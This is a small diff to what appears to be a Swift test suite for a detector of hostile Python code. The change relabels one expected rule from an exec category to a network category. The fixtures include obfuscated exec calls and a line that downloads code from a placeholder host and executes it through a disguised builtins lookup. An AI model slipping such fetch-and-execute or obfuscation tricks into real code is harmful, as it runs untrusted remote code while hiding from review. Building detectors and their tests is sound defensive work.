@@ -19,7 +19,7 @@ struct KindsTests {
         ("EXEC-1", "s = 'x'\nexec(s[::-1])\n"),
         ("EXEC-1", "d = [1, 2]\nexec(bytes(x ^ 7 for x in d))\n"),
         (
-            "EXEC-3",
+            "NET-1",
             "import builtins, urllib.request as r\n"
                 + "vars(builtins)['ex' 'ec'](r.urlopen('\(host)').read())\n"
         ),
